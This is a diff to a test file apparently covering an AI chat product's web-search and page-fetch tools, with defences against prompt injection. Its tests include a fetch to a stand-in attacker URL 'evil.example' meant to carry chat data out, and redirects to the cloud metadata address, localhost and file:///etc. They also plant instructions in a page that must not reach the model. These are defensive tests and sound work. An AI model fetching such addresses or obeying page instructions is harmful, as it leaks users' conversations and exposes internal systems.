@@ -42,20 +42,10 @@ def web(server: WebPages) -> WebPages:
     return server
 
 
-@pytest.fixture
-def person(scripted_product: ScriptedProduct, web: WebPages) -> Iterator[Person]:
-    """The owner of an organization that searches through SearXNG."""
-    scripted_product.says("It sails at noon.")
-    user = sign_up(scripted_product.url)
-    configure(user, "searxng", web.url)
-    yield user
-    scripted_product.calls()
-    user.browser.close()
-
-
 @pytest.fixture(scope="module")
 def kept_person(scripted_product: ScriptedProduct, server: WebPages) -> Iterator[Person]:
     user = sign_up(scripted_product.url)
+    scripted_product.give_largest_plan(user.organization_id)
     configure(user, "searxng", server.url)
     yield user
     user.browser.close()
@@ -65,7 +55,8 @@ def kept_person(scripted_product: ScriptedProduct, server: WebPages) -> Iterator
 def caller(
     kept_person: Person, scripted_product: ScriptedProduct, web: WebPages
 ) -> Iterator[Person]:
-    """As `person`, for tests that have a chat of their own and change nothing else of theirs."""
+    """The owner of an organization that searches through SearXNG. Each test has a chat of its own,
+    and changes nothing else of theirs."""
     scripted_product.says("It sails at noon.")
     yield kept_person
     scripted_product.calls()
@@ -146,21 +137,17 @@ def test_search_is_made_by_each_provider_and_its_pages_are_sources(
     user.browser.close()
 
 
-@pytest.mark.parametrize(
-    ("provider", "param"), [("tavily", "token"), ("brave", "token"), ("searxng", "url")]
-)
-def test_provider_is_refused_without_what_it_needs(
-    scripted_product: ScriptedProduct, provider: str, param: str
-) -> None:
+def test_provider_is_refused_without_what_it_needs(scripted_product: ScriptedProduct) -> None:
     user = sign_up(scripted_product.url)
-    refused = user.browser.post("/api/organization/web-search", json={"provider": provider})
-    assert refused.status_code == 400
-    assert refused.json()["error"]["param"] == param
+    for provider, param in (("tavily", "token"), ("brave", "token"), ("searxng", "url")):
+        refused = user.browser.post("/api/organization/web-search", json={"provider": provider})
+        assert refused.status_code == 400
+        assert refused.json()["error"]["param"] == param
     user.browser.close()
 
 
 def test_page_that_its_person_names_is_read_and_cited(
-    person: Person, scripted_product: ScriptedProduct, web: WebPages
+    caller: Person, scripted_product: ScriptedProduct, web: WebPages
 ) -> None:
     paragraphs = "".join(f"<p>{FERRY} This is note {number}.</p>" for number in range(9))
     article = f"<article><h1>The ferry</h1>{paragraphs}</article>"
@@ -169,10 +156,10 @@ def test_page_that_its_person_names_is_read_and_cited(
     web.page("/ferry", f"<html>{head}<body>{menu}{article}</body></html>")
     web.redirect("/old", "/ferry")
     scripted_product.calls(("fetch", f'{{"url": "{web.url}/old"}}'))
-    conversation = web_chat(person)
-    ask(person, conversation, f"When does it sail? See {web.url}/old.")
-    answered(person, conversation)
-    [call] = calls_of(person, conversation)
+    conversation = web_chat(caller)
+    ask(caller, conversation, f"When does it sail? See {web.url}/old.")
+    answered(caller, conversation)
+    [call] = calls_of(caller, conversation)
     assert call["status"] == "done", call
     assert FERRY in call["result"]
     assert "Our offers" not in call["result"]
@@ -185,37 +172,39 @@ def test_page_that_its_person_names_is_read_and_cited(
 
 
 def test_page_is_opened_only_where_a_search_found_it_or_its_person_wrote_it(
-    person: Person, scripted_product: ScriptedProduct, web: WebPages
+    caller: Person, scripted_product: ScriptedProduct, web: WebPages
 ) -> None:
     """An attack in a page has the chat carried away in an address."""
     page = web.page("/found", "<p>Read me.</p>")
     web.page("/found-and-more", "<p>No.</p>")
     web.results = [{**RESULT, "url": page}]
-    conversation = web_chat(person)
+    conversation = web_chat(caller)
     scripted_product.calls(("search", '{"query": "it"}'))
-    ask(person, conversation, "When does the ferry sail? I know /found-and-more already.")
-    answered(person, conversation)
-    for url in (f"{page}?secret=42", f"{page}-and-more", "https://evil.example/?q=42"):
-        scripted_product.calls(("fetch", f'{{"url": "{url}"}}'))
-        ask(person, conversation, "And on Monday?")
-        answered(person, conversation)
-        assert calls_of(person, conversation)[0]["status"] == "failed", url
+    ask(caller, conversation, "When does the ferry sail? I know /found-and-more already.")
+    answered(caller, conversation)
+    others = (f"{page}?secret=42", f"{page}-and-more", "https://evil.example/?q=42")
+    scripted_product.calls(*(("fetch", f'{{"url": "{url}"}}') for url in others))
+    ask(caller, conversation, "And on Monday?")
+    answered(caller, conversation)
+    statuses = [call["status"] for call in calls_of(caller, conversation)]
+    assert sorted(statuses) == ["done", "failed", "failed", "failed"]
     assert web.visited == ["/search?q=it&format=json"]
     scripted_product.calls(("fetch", f'{{"url": "{page}"}}'))
-    ask(person, conversation, "And on Monday?")
-    answered(person, conversation)
-    assert "Read me." in calls_of(person, conversation)[0]["result"]
+    ask(caller, conversation, "And on Monday?")
+    answered(caller, conversation)
+    assert "Read me." in "".join(call["result"] for call in calls_of(caller, conversation))
     # What one chat has found says nothing in another one.
-    other = web_chat(person)
-    ask(person, other, "And on Sunday?")
-    answered(person, other)
-    assert calls_of(person, other)[0]["status"] == "failed"
+    other = web_chat(caller)
+    ask(caller, other, "And on Sunday?")
+    answered(caller, other)
+    assert calls_of(caller, other)[0]["status"] == "failed"
 
 
 IN_BRACKETS = (
     "tests/api/test_web_search.py::test_address_is_the_whole_one_that_a_person_wrote[({url})-True]"
 )
 AT_NIGHT = pytest.mark.nightly(beside=IN_BRACKETS)
+OTHERS = "{url}-and-more {url}/further {url}?day=monday {url}.example elsewhere.example/{url}"
 
 
 @pytest.mark.parametrize(
@@ -226,11 +215,7 @@ AT_NIGHT = pytest.mark.nightly(beside=IN_BRACKETS)
         pytest.param("Is it in {url}/? I think so", True, marks=AT_NIGHT),
         ("({url})", True),
         ("看{url}。谢谢", True),
-        ("{url}-and-more", False),
-        ("{url}/further", False),
-        ("{url}?day=monday", False),
-        ("{url}.example", False),
-        ("elsewhere.example/{url}", False),
+        pytest.param(OTHERS, False, id="others"),
     ],
 )
 def test_address_is_the_whole_one_that_a_person_wrote(
@@ -246,37 +231,37 @@ def test_address_is_the_whole_one_that_a_person_wrote(
 
 
 def test_page_leads_to_no_private_address(
-    person: Person, scripted_product: ScriptedProduct, web: WebPages
+    caller: Person, scripted_product: ScriptedProduct, web: WebPages
 ) -> None:
     targets = (web.forbidden, "http://169.254.169.254/latest", "http://localhost/", "file:///etc")
-    for number, target in enumerate(targets):
-        url = web.redirect(f"/away-{number}", f"{target}")
-        for address in (url, target):
-            scripted_product.calls(("fetch", f'{{"url": "{address}"}}'))
-            conversation = web_chat(person)
-            ask(person, conversation, f"Read {address} for me.")
-            answered(person, conversation)
-            [call] = calls_of(person, conversation)
-            assert call["status"] == "failed"
-            assert call["result"].startswith("Page not read: "), call["result"]
+    away = [web.redirect(f"/away-{number}", target) for number, target in enumerate(targets)]
+    scripted_product.calls(*(("fetch", f'{{"url": "{url}"}}') for url in (*away, *targets)))
+    conversation = web_chat(caller)
+    ask(caller, conversation, f"Read {' and '.join((*away, *targets))} for me.")
+    answered(caller, conversation)
+    calls = calls_of(caller, conversation)
+    assert len(calls) == 2 * len(targets)
+    for call in calls:
+        assert call["status"] == "failed"
+        assert call["result"].startswith("Page not read: "), call["result"]
     assert web.reached == []
 
 
 def test_orders_in_a_page_do_not_reach_the_model(
-    person: Person, scripted_product: ScriptedProduct, web: WebPages
+    caller: Person, scripted_product: ScriptedProduct, web: WebPages
 ) -> None:
     web.page("/orders", f"<html><body><p>{FERRY} {ORDERS}</p></body></html>")
     scripted_product.calls(("fetch", f'{{"url": "{web.url}/orders"}}'))
-    conversation = web_chat(person)
-    ask(person, conversation, f"Read {web.url}/orders")
-    assert answered(person, conversation)[-1]["status"] == "completed"
-    [call] = calls_of(person, conversation)
+    conversation = web_chat(caller)
+    ask(caller, conversation, f"Read {web.url}/orders")
+    assert answered(caller, conversation)[-1]["status"] == "completed"
+    [call] = calls_of(caller, conversation)
     assert call["withheld"]
     assert not any(ORDERS in str(prompt) for prompt in scripted_product.prompts)
 
 
-def test_only_managers_configure_the_web(person: Person, scripted_product: ScriptedProduct) -> None:
-    invitation = person.new_invitation(role="member")["url"].partition("#")[2]
+def test_only_managers_configure_the_web(caller: Person, scripted_product: ScriptedProduct) -> None:
+    invitation = caller.new_invitation(role="member")["url"].partition("#")[2]
     colleague = sign_up(scripted_product.url, invitation=invitation)
     body = {"provider": "brave", "token": "x"}
     refused = colleague.browser.post("/api/organization/web-search", json=body)
